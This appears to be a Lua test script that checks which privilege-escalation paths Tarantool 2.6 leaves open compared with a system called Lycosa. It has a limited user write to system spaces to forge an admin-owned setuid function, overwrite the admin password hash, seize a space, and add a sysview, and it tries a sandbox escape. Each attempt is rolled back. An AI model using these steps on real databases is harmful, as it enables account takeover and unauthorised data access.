-- ways to other people's rights that Tarantool 2.6 leaves open and Lycosa does not

secret = box.schema.space.create('secret')

box.schema.user.create('maker')

for _, kind in ipairs{'space', 'function', 'sequence', 'user', 'role'} do box.schema.user.grant('maker', 'create,drop', kind) end

for _, kind in ipairs{'space', 'sequence', 'user'} do box.schema.user.grant('maker', 'alter', kind) end

for _, name in ipairs{'_space', '_func', '_user', '_sequence', '_trigger'} do box.schema.user.grant('maker', 'read,write', 'space', name) end

me = box.space._user.index.name:get('maker')[1]

map = setmetatable({}, {__serialize = 'map'})

function as_maker(work)
    box.begin()
    local ok, answer = pcall(box.session.su, 'maker', work)
    box.rollback()
    return ok and 'done' or tostring(answer)
end

-- a setuid function of the administrator's

as_maker(function() box.space._func:insert{100, 1, 'run', 1, 'LUA', '', 'function', {}, 'any', 'none', 'none', false, false, true, {'LUA'}, map, '', '', ''} end)

as_maker(function() box.space._func:insert{100, me, 'run', 1, 'LUA', '', 'function', {}, 'any', 'none', 'none', false, false, true, {'LUA'}, map, '', '', ''} end)

-- the administrator's password

as_maker(function() box.space._user:replace{1, 1, 'admin', 'user', {['chap-sha1'] = 'vhvewKp0tNyweZQ+cFKAlsyphfg='}} end)

-- a space made one's own

as_maker(function() box.space._space:update(secret.id, {{'=', 2, me}}) end)

-- a view of whatever has the number before it

as_maker(function() box.space._space:insert{secret.id + 1, me, 'eye', 'sysview', 0, map, {}} end)

-- the function that runs any text

box.space._func.index.name:count('LUA')

-- the body of a sandboxed function is read in the sandbox already

box.schema.func.create('escape', {is_sandboxed = true, body = '(function() local b = box return function() return tostring(b) end end)()'})

box.func.escape:call()

box.schema.func.create('plain', {is_sandboxed = true, body = 'function() return box == nil, os == nil, string.upper("a") end'})

box.func.plain:call()
